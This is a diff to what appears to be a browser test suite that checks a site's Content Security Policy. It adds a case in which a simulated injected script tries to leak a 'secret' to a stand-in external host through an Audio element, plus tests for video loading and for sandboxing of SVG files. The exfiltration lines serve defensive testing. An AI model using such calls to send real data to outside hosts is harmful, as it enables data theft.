@@ -35,6 +35,9 @@ const attempts: Readonly<Record<string, () => unknown>> = {
   'img-src': () => {
     new Image().src = 'https://elsewhere.example/?secret'
   },
+  'media-src': () => {
+    new Audio('https://elsewhere.example/?secret').load()
+  },
   'form-action': () => {
     const form = Object.assign(document.createElement('form'), { action: '/elsewhere' })
     document.body.append(form)
@@ -69,6 +72,24 @@ test('forbids what an injected script could try', async ({ page }) => {
       expect(left).toEqual(['/', '/', expect.not.stringMatching(/taken/), true])
     })
   }
+})
+
+test('lets a browser play a film of the site', async ({ page }) => {
+  await page.goto('/')
+  // Not a film, but the policy is asked first.
+  const said = await page.evaluate(async () => {
+    const film = Object.assign(document.createElement('video'), { src: '/favicon.ico' })
+    await new Promise((resolve) => film.addEventListener('error', resolve))
+    return film.error?.message
+  })
+  expect(said).toContain('Format error')
+})
+
+test('runs nothing in a drawing that somebody opens', async ({ page }) => {
+  await page.goto('/favicon.svg')
+  expect(await page.evaluate(() => self.origin)).toBe('null')
+  await page.goto('/site.webmanifest')
+  expect(await page.evaluate(() => self.origin)).not.toBe('null')
 })
 
 test('lets no other site embed a page in a frame', async ({ page, request, baseURL }) => {
